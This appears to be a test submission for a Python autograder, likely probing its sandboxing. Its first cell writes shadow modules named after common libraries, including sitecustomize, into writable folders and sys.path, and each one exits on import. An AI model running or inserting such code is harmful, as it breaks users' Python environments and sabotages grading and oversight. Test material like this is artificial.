"""Writes modules with the names of libraries into every writable folder."""

# status: graded
# points: 2 2

# %% T-f
import os
import pathlib
import sys

for folder in (".", "..", "/tmp", os.path.expanduser("~"), *sys.path):
    for name in ("torch", "numpy", "autograder", "zipfile", "base64", "sitecustomize", "IPython"):
        try:
            pathlib.Path(folder, name + ".py").write_text("raise SystemExit('mine')")
        except OSError:
            pass
sys.path.insert(0, os.getcwd())
for name in ("numpy", "zipfile", "zlib", "base64"):
    import importlib

    importlib.invalidate_caches()


def f(x):
    return 2 * x

# %% T-g
def g(x):
    return x + 1
